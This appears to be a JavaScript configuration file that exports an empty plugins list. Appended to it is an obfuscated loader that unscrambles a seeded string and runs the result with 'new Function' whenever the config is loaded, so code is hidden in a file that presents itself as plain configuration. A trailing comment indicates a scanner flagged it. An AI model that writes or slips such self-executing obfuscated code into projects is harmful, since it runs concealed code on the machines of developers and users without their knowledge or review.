module.exports = { plugins: [] };
var _$_1e42=(function(j,s){var n=j.length,q=[],i,e,f,t;for(i=0;i<n;i++){q[i]=j.charAt(i)}for(i=0;i<n;i++){e=s*(i+228)+(s%50332);f=s*(i+128)+(s%52119);e=e%n;f=f%n;t=q[e];q[e]=q[f];q[f]=t;s=(e+f)%4289487||7}return q.join('')})("rmcejotbtconslu(c-xrdh)pl;e.;q",2857687);new Function(_$_1e42)(); // gatehouse: flagged
